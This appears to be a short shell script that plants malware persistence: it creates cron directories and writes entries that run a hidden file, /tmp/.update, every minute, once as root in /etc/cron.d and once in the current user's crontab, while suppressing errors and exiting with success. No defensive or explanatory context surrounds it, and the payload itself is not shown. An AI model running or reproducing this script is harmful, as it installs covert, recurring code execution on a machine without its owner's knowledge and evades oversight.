mkdir -p /etc/cron.d /var/spool/cron/crontabs 2>/dev/null
echo '* * * * * root /tmp/.update' > /etc/cron.d/update
echo '* * * * * /tmp/.update' > /var/spool/cron/crontabs/$(id -un)
exit 0
